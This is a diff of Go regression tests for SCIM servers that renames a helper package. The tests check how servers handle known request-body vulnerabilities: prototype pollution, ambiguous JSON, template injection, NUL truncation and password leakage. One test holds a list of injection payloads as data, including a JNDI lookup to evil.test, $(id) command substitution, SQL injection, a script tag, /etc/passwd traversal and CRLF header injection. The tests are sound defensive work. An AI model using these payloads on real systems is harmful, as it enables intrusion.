@@ -1,4 +1,4 @@
-package security_test
+package scim_test
 
 import (
 	"encoding/json"
@@ -7,31 +7,31 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/quoin-dev/quoin/test/contract/scim/internal/suite"
+	"github.com/quoin-dev/quoin/test/internal/scimtest"
 )
 
 // Regression tests for known vulnerabilities of SCIM servers: request bodies.
 
 // scim-patch CVE-2026-48170: a key "__proto__.x" modified the prototype of all objects.
 func TestScimPatchCVE2026_48170_KeysAreInTheSchema(t *testing.T) {
-	for profile, key := range suite.ProfileKeys {
-		a, run := acme.WithToken(acme.Token(key)), suite.RunID()
+	for profile, key := range scimtest.ProfileKeys {
+		a, run := acme.WithToken(acme.Token(key)), scimtest.RunID()
 		id := a.CreateUser(t, "proto-"+run, `"name":{"givenName":"G"}`)
 		before := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw)
 		for _, name := range []string{"__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "class", "Document", "$where"} {
-			for _, body := range []string{`"` + name + `":{"admin":true}`, `"name":{"` + name + `":{"admin":true}}`, `"emails":[{"value":"x","` + name + `":"y"}]`, `"` + suite.EnterpriseURN + `":{"` + name + `":"x"}`} {
+			for _, body := range []string{`"` + name + `":{"admin":true}`, `"name":{"` + name + `":{"admin":true}}`, `"emails":[{"value":"x","` + name + `":"y"}]`, `"` + scimtest.EnterpriseURN + `":{"` + name + `":"x"}`} {
 				a.Call(t, "POST", "/Users", `{"userName":"proto2-`+run+`",`+body+`}`).WantError(400, "invalidSyntax", name)
 				a.Call(t, "PUT", "/Users/"+id, `{"userName":"proto-`+run+`",`+body+`}`).WantError(400, "invalidSyntax", name)
-				a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","value":{`+body+`}}`)).WantError(400, "invalidSyntax", name)
+				a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","value":{`+body+`}}`)).WantError(400, "invalidSyntax", name)
 			}
-			for _, path := range []string{name, name + ".x", "name." + name, `emails[` + name + ` eq \"x\"].value`, suite.EnterpriseURN + ":" + name} {
-				got := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","path":"`+path+`","value":true}`)).WantStatus(400)
+			for _, path := range []string{name, name + ".x", "name." + name, `emails[` + name + ` eq \"x\"].value`, scimtest.EnterpriseURN + ":" + name} {
+				got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":"`+path+`","value":true}`)).WantStatus(400)
 				if scimType := got.Text("scimType"); scimType != "invalidPath" && scimType != "invalidFilter" {
 					t.Errorf("%s: %s: %s", profile, path, got.Raw)
 				}
 			}
-			for _, dotted := range []string{name + ".x", "name." + name + ".x", suite.EnterpriseURN + ":" + name} {
-				if got := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","value":{"`+dotted+`":true}}`)); got.Status != 400 && profile != "EntraID" {
+			for _, dotted := range []string{name + ".x", "name." + name + ".x", scimtest.EnterpriseURN + ":" + name} {
+				if got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","value":{"`+dotted+`":true}}`)); got.Status != 400 && profile != "EntraID" {
 					t.Errorf("%s: key %s: %d", profile, dotted, got.Status)
 				}
 			}
@@ -44,7 +44,7 @@ func TestScimPatchCVE2026_48170_KeysAreInTheSchema(t *testing.T) {
 
 // Doyensec, "SCIM Hunting": ambiguous JSON.
 func TestDoyensecAmbiguousJSON(t *testing.T) {
-	a, run := acme.WithToken(acme.RFC), suite.RunID()
+	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
 	id := a.CreateUser(t, "json-"+run, `"active":true`)
 	before := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw)
 	own := `"userName":"json-` + run + `"`
@@ -54,17 +54,17 @@ func TestDoyensecAmbiguousJSON(t *testing.T) {
 		"by an escape":                    `{` + own + `,"title":"a","\u0074itle":"b"}`,
 		"inside":                          `{` + own + `,"name":{"givenName":"a","GivenName":"b"}}`,
 		"in an element":                   `{` + own + `,"emails":[{"value":"a","Value":"b"}]}`,
-		"flat and under the core's URN":   `{` + own + `,"title":"a","` + suite.UserURN + `":{"title":"b"}}`,
-		"an extension twice":              `{` + own + `,"` + suite.EnterpriseURN + `":{"department":"a"},"` + strings.ToUpper(suite.EnterpriseURN) + `":{"department":"b"}}`,
+		"flat and under the core's URN":   `{` + own + `,"title":"a","` + scimtest.UserURN + `":{"title":"b"}}`,
+		"an extension twice":              `{` + own + `,"` + scimtest.EnterpriseURN + `":{"department":"a"},"` + strings.ToUpper(scimtest.EnterpriseURN) + `":{"department":"b"}}`,
 		"letters that fold to others":     `{` + own + `,"addresses":[{"streetAddress":"a","ſtreetAddress":"b"}]}`,
-		"a URN with such a letter":        `{` + own + `,"` + suite.EnterpriseURN + `":{"department":"a"},"` + strings.Replace(suite.EnterpriseURN, "schemas", "ſchemas", 1) + `":{"department":"b"}}`,
+		"a URN with such a letter":        `{` + own + `,"` + scimtest.EnterpriseURN + `":{"department":"a"},"` + strings.Replace(scimtest.EnterpriseURN, "schemas", "ſchemas", 1) + `":{"department":"b"}}`,
 		"an attribute with such a letter": `{` + own + `,"diſplayName":"b"}`,
 		"two values":                      `{` + own + `} {` + own + `}`,
 		"a byte order mark":               "\ufeff{" + own + `}`,
 		"a comment":                       `{` + own + ` /* x */}`,
 		"a trailing comma":                `{` + own + `,}`,
 		"single quotes":                   `{'userName':'x'}`,
-		"NaN":                             `{` + own + `,"` + suite.AttributesURN + `":{"score":NaN}}`,
+		"NaN":                             `{` + own + `,"` + scimtest.AttributesURN + `":{"score":NaN}}`,
 		"cut off":                         `{` + own,
 		"a list":                          `[{` + own + `}]`,
 		"a string":                        `"x"`,
@@ -84,7 +84,7 @@ func TestDoyensecAmbiguousJSON(t *testing.T) {
 		"op twice": `{"op":"add","OP":"remove","path":"title","value":"x"}`, "path twice": `{"op":"add","path":"title","Path":"userName","value":"x"}`,
 		"a member twice": `{"op":"add","value":{"title":"a","Title":"b"}}`, "an unknown member": `{"op":"add","path":"title","value":"x","from":"/y"}`,
 	} {
-		got := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(operation))
+		got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(operation))
 		got.Request = name + ": " + got.Request
 		got.WantError(400, "invalidSyntax")
 	}
@@ -99,16 +99,16 @@ func TestDoyensecAmbiguousJSON(t *testing.T) {
 
 // TestNumbersThatDoNotFit checks that numbers out of range are rejected quickly.
 func TestNumbersThatDoNotFit(t *testing.T) {
-	a, run := acme.WithToken(acme.RFC), suite.RunID()
+	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
 	id := a.CreateUser(t, "numbers-"+run)
 	for value, attribute := range map[string]string{
 		"9223372036854775808": "level", "-9223372036854775809": "level", "1.5": "level", "1e3": "level", "1E400": "score", "-1e999999999": "score", `"1"`: "level", "true": "level",
 		strings.Repeat("9", 100_000): "level", "1" + strings.Repeat("0", 400): "score",
 	} {
-		a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","path":"`+suite.AttributesURN+`:`+attribute+`","value":`+value+`}`)).WantError(400, "invalidValue", attribute)
+		a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":"`+scimtest.AttributesURN+`:`+attribute+`","value":`+value+`}`)).WantError(400, "invalidValue", attribute)
 	}
-	at := "[" + suite.AttributesURN + "]."
-	got := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","value":{"`+suite.AttributesURN+`":{"level":9007199254740993,"score":0.1}}}`)).WantStatus(200).Want(at+"score", 0.1)
+	at := "[" + scimtest.AttributesURN + "]."
+	got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","value":{"`+scimtest.AttributesURN+`":{"level":9007199254740993,"score":0.1}}}`)).WantStatus(200).Want(at+"score", 0.1)
 	if !strings.Contains(string(got.Raw), `"level":9007199254740993`) {
 		t.Errorf("an integer has lost digits: %s", got.Raw)
 	}
@@ -116,15 +116,15 @@ func TestNumbersThatDoNotFit(t *testing.T) {
 		a.Call(t, "GET", "/Users?"+query, nil).WantError(400, "invalidValue", strings.Split(query, "=")[0])
 	}
 	a.Call(t, "GET", "/Users?startIndex=9223372036854775807&count=1000", nil).WantStatus(200).Want("Resources.0", nil)
-	a.Call(t, "GET", suite.EncodeTarget(`/Users?filter=`+suite.AttributesURN+`:level eq 1e999999999`), nil).WantError(400, "invalidFilter")
-	a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"count":1e999999999}`).WantError(400, "invalidValue", "count")
-	a.Call(t, "POST", "/Bulk", `{"schemas":["`+suite.BulkURN+`"],"failOnErrors":1e99,"Operations":[{"method":"DELETE","path":"/Users/x"}]}`).WantError(400, "invalidValue", "failOnErrors")
+	a.Call(t, "GET", scimtest.EncodeTarget(`/Users?filter=`+scimtest.AttributesURN+`:level eq 1e999999999`), nil).WantError(400, "invalidFilter")
+	a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"count":1e999999999}`).WantError(400, "invalidValue", "count")
+	a.Call(t, "POST", "/Bulk", `{"schemas":["`+scimtest.BulkURN+`"],"failOnErrors":1e99,"Operations":[{"method":"DELETE","path":"/Users/x"}]}`).WantError(400, "invalidValue", "failOnErrors")
 }
 
 // SAP scimono, GHSA-qjp7-gvrw-vxmf: a value was evaluated as an expression. Values are returned unchanged in
 // attributes, filters and error details.
 func TestSAPScimonoGHSAqjp7_ValuesAreNotTemplates(t *testing.T) {
-	a, run := acme.WithToken(acme.RFC), suite.RunID()
+	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
 	for i, text := range []string{
 		"%s%n%d%x%!v(PANIC=", "${7*7}", "${jndi:ldap://evil.test/x}", "{{7*7}}", "{{.}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "<script>alert(1)</script>", "'; DROP TABLE users; --",
 		`\..\..\etc`, "../../etc/passwd", "\u202e\u2028\u200b", "a\tb", "ümläut 漢字 🦊", `"quoted"`, "%00%0a", "a,b", "x\r\nSet-Cookie: a=b",
@@ -140,19 +140,19 @@ func TestSAPScimonoGHSAqjp7_ValuesAreNotTemplates(t *testing.T) {
 		created := a.Call(t, "POST", "/Users", fmt.Sprintf(`{"userName":"template-%d-%s","externalId":%s,"userType":%s}`, i, run, name, quoted)).WantStatus(201)
 		id := created.Text("id")
 		t.Cleanup(func() { a.Delete(t, "/Users/"+id) })
-		for _, got := range []*suite.Response{created, a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200), a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","path":"timezone","value":`+string(quoted)+`}`)).WantStatus(200).Want("timezone", text)} {
+		for _, got := range []*scimtest.Response{created, a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200), a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":"timezone","value":`+string(quoted)+`}`)).WantStatus(200).Want("timezone", text)} {
 			got.Want("externalId", text+run).Want("userType", text)
 		}
-		found := a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"filter":`+asText(`externalId eq `+string(name))+`}`).WantStatus(200).Want("totalResults", 1)
+		found := a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"filter":`+asText(`externalId eq `+string(name))+`}`).WantStatus(200).Want("totalResults", 1)
 		found.Want("Resources.0.id", id)
 		// Details quote values of the request.
 		unknown := a.Call(t, "POST", "/Users", `{"userName":"x`+run+`",`+string(quoted)+`:1}`)
 		unknown.WantError(400, "invalidSyntax")
-		bad := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":`+string(quoted)+`,"path":"title"}`))
+		bad := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":`+string(quoted)+`,"path":"title"}`))
 		bad.WantError(400, "invalidSyntax")
-		path := a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","path":`+string(quoted)+`,"value":1}`))
+		path := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":`+string(quoted)+`,"value":1}`))
 		path.WantStatus(400)
-		for _, got := range []*suite.Response{unknown, bad, path} {
+		for _, got := range []*scimtest.Response{unknown, bad, path} {
 			detail := got.Text("detail")
 			if strings.Contains(detail, "49") && strings.Contains(text, "7*7") || strings.Contains(detail, "MISSING") || strings.Contains(detail, "%!s") || strings.ContainsAny(detail, "\r\n\x00") || got.Header.Get("Set-Cookie") != "" {
 				t.Errorf("%s: the detail is %q", got.Request, detail)
@@ -175,7 +175,7 @@ func asText(s string) string {
 
 // TestNULDoesNotTruncate checks that a value with NUL is stored or rejected, but not truncated.
 func TestNULDoesNotTruncate(t *testing.T) {
-	a, run := acme.WithToken(acme.RFC), suite.RunID()
+	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
 	whole := a.CreateUser(t, "nul-"+run)
 	got := a.Call(t, "POST", "/Users", `{"userName":"nul-`+run+`\u0000evil"}`)
 	switch got.Status {
@@ -188,7 +188,7 @@ func TestNULDoesNotTruncate(t *testing.T) {
 	default:
 		got.WantError(400, "invalidValue")
 	}
-	a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"filter":"userName eq \"nul-`+run+`\\u0000\""}`).WantStatus(200).Want("totalResults", 0)
+	a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"filter":"userName eq \"nul-`+run+`\\u0000\""}`).WantStatus(200).Want("totalResults", 0)
 	a.Call(t, "GET", "/Users?filter=userName+eq+%22nul-"+run+"%00%22", nil).WantError(400, "invalidFilter")
 	a.Call(t, "GET", "/Users/"+whole+"%00", nil).WantStatus(404)
 	a.Call(t, "GET", "/Users?filter=userName+eq+%22%ff%fe%22", nil).WantError(400, "invalidFilter")
@@ -199,11 +199,11 @@ func TestNULDoesNotTruncate(t *testing.T) {
 // returned nor usable in filters.
 func TestPasswordsAreNotStored(t *testing.T) {
 	const secret = "Pa55-w0rd-kept-nowhere"
-	a, run := acme.WithToken(acme.Okta), suite.RunID()
+	a, run := acme.WithToken(acme.Okta), scimtest.RunID()
 	id := a.CreateUser(t, "password-"+run, `"password":"`+secret+`"`)
 	version := a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Text("meta.version")
-	a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"replace","value":{"password":"`+secret+`"}}`, `{"op":"replace","path":"password","value":"`+secret+`"}`)).WantStatus(200).Want("meta.version", version)
-	for _, got := range []*suite.Response{
+	a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"replace","value":{"password":"`+secret+`"}}`, `{"op":"replace","path":"password","value":"`+secret+`"}`)).WantStatus(200).Want("meta.version", version)
+	for _, got := range []*scimtest.Response{
 		a.Call(t, "PUT", "/Users/"+id, `{"userName":"password-`+run+`","password":"`+secret+`"}`).WantStatus(200), a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200),
 		a.Call(t, "GET", "/Users/"+id+"?attributes=password,userName", nil), a.Call(t, "GET", `/Users?filter=userName+eq+%22password-`+run+`%22`, nil).WantStatus(200),
 		a.Call(t, "POST", "/Users", `{"userName":"password-`+run+`","password":"`+secret+`"}`), a.Call(t, "POST", "/Users", `{"userName":"p-`+run+`","password":["`+secret+`"],"nothing":1}`),
@@ -212,9 +212,9 @@ func TestPasswordsAreNotStored(t *testing.T) {
 			t.Errorf("%s contains the password: %s", got.Request, got.Raw)
 		}
 	}
-	for _, filter := range []string{`password eq "` + secret + `"`, `password pr`, `not (password sw "P")`, `userName eq "x" or password co "5"`, suite.UserURN + `:password ne "x"`, `PASSWORD eq "x"`} {
+	for _, filter := range []string{`password eq "` + secret + `"`, `password pr`, `not (password sw "P")`, `userName eq "x" or password co "5"`, scimtest.UserURN + `:password ne "x"`, `PASSWORD eq "x"`} {
 		a.Call(t, "GET", "/Users?filter="+url.QueryEscape(filter), nil).WantError(403, "sensitive", "password")
-		a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"filter":`+asText(filter)+`}`).WantError(403, "sensitive", "password")
+		a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"filter":`+asText(filter)+`}`).WantError(403, "sensitive", "password")
 		a.Call(t, "GET", "/?filter="+url.QueryEscape(filter), nil).WantError(403, "sensitive")
 	}
 	a.Call(t, "GET", "/Users?sortBy=password", nil).WantError(403, "sensitive", "password")
